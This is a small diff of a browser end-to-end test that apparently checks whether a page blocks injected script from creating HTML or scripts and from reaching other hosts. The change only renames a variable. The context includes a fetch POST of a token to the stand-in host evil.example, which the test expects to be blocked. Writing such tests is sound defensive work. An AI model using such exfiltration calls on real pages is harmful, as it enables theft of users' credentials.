@@ -31,7 +31,7 @@ test.describe('an attack that got into the page', () => {
 
   test('[AUTH-1] makes no text into HTML or a script, and reaches no other host', async ({ page }) => {
     await signIn(page, 'employee@acme.example')
-    const outcome = await page.evaluate(async () => {
+    const result = await page.evaluate(async () => {
       const attempt = async (work: () => unknown): Promise<string> => {
         try {
           await work()
@@ -60,7 +60,7 @@ test.describe('an attack that got into the page', () => {
         call: await attempt(() => fetch('https://evil.example/', { method: 'POST', body: 'token' })),
       }
     })
-    expect(outcome).toEqual({
+    expect(result).toEqual({
       html: 'TypeError',
       text: 'TypeError',
       address: 'TypeError',
